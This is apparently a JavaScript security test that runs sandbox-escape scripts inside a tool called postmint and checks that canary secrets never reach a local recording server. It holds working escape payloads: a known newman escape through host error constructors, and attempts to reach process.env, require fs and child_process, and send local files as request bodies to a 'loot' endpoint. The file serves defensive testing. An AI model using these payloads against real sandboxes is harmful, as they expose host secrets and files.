// Runs scripts that try to break out of the sandbox, with an installed postmint.
import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';

/** Contents of an environment variable and a file outside the sandbox. No script may read them. */
const canaries = { variable: 'canary-of-a-variable-4b1f', file: 'canary-of-a-file-e07c' };

/** A script that evaluates an expression and sends the result to the server. */
const attempt = (find) => `
  function send(loot) {
    pm.sendRequest({ url: pm.variables.replaceIn("{{base_url}}/loot"), method: "POST", body: { mode: "raw", raw: String(loot) } }, function () {});
  }
  let loot = "nothing";
  try { loot = ${find}; } catch (error) { loot = "threw " + error.message; }
  send(loot);
`;

/** newman pull request 3363: a script catches an error of the host, which gives access to the host's constructors. */
const knownEscape = attempt(`(function () {
  Object.prototype.toJSON = function () { return undefined; };
  try { console.log("x"); } catch (error) {
    return error.constructor.constructor("return process")().env.POSTMINT_CANARY;
  } finally { delete Object.prototype.toJSON; }
  return "no error of the host";
})()`);

const attempts = (file) => ({
  'known escape': knownEscape,
  process: attempt('JSON.stringify(Function("return process")().env)'),
  'constructors of what comes from outside': attempt(
    '[pm.sendRequest, console.log, pm.response.text, setTimeout].map(function (given) { return JSON.stringify(given.constructor("return process")().env); }).join()',
  ),
  require: attempt(`require("fs").readFileSync(${JSON.stringify(file)}, "utf8")`),
  'require of the sandbox': attempt(`Function("return require")()("fs").readFileSync(${JSON.stringify(file)}, "utf8")`),
  'a program': attempt(`Function("return require")()("child_process").execFileSync("cat", [${JSON.stringify(file)}])`),
  'a file as a body': `pm.sendRequest({ url: pm.variables.replaceIn("{{base_url}}/loot"), method: "POST", body: { mode: "file", file: { src: ${JSON.stringify(file)} } } }, function () {});`,
});

/** Starts a server that answers every request with 200 and records it. */
async function listen() {
  const received = [];
  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (text) => {
      body += text;
    });
    request.on('end', () => {
      received.push({ path: request.url, body });
      response.end('{}');
    });
  });
  await new Promise((done) => server.listen(0, '127.0.0.1', done));
  return { received, origin: `http://127.0.0.1:${server.address().port}`, close: () => server.close() };
}

/**
 * Runs each attempt in a separate run.
 *
 * @returns faults, as texts
 */
export async function escapes({ run, cli, stock, folder }) {
  mkdirSync(folder);
  const file = join(folder, 'canary.txt');
  writeFileSync(file, canaries.file);
  const env = { POSTMINT_CANARY: canaries.variable };
  const server = await listen();
  const faults = [];
  for (const [index, [name, script]] of Object.entries(attempts(file)).entries()) {
    const own = join(folder, String(index));
    mkdirSync(own);
    const endpoint = { name: 'Try', request: 'GET /try', after: script };
    const list = { name: 'Escape', environments: { dev: { base_url: server.origin } }, endpoints: [endpoint] };
    writeFileSync(join(own, 'endpoints.yaml'), JSON.stringify(list));
    const made = await run([...cli, 'generate'], own, env);
    if (made.code !== 0) faults.push(`${name}: generate ends with ${made.code}: ${made.stderr}`);
    server.received.length = 0;
    const { code, stdout, stderr } = await run([...cli, 'run', '--timeout', '30s', '--show-values'], own, env);
    const seen = JSON.stringify([server.received, stdout, stderr]);
    const out = Object.values(canaries).filter((canary) => seen.includes(canary));
    if (out.length > 0) faults.push(`${name}: the script got out: ${out.join(', ')}`);
    if (!server.received.some(({ path }) => path === '/try')) faults.push(`${name}: nothing was sent: ${stderr}`);
    console.log(`contained, exit code ${code}: ${name}`);
  }
  faults.push(...(await control({ run, stock, server, folder, env })));
  server.close();
  return faults;
}

/** Proves that the check can detect an escape: in stock newman, with the older sandbox, the known escape works. */
async function control({ run, stock, server, folder, env }) {
  server.received.length = 0;
  const files = ['escape.postman_collection.json', '-e', 'escape.dev.postman_environment.json'];
  await run([...stock, 'run', ...files], join(folder, '0'), env);
  const found = server.received.some(({ body }) => body.includes(canaries.variable));
  return found ? [] : ['the known escape does not work in stock newman 6.2.2 either, so this check proves nothing'];
}
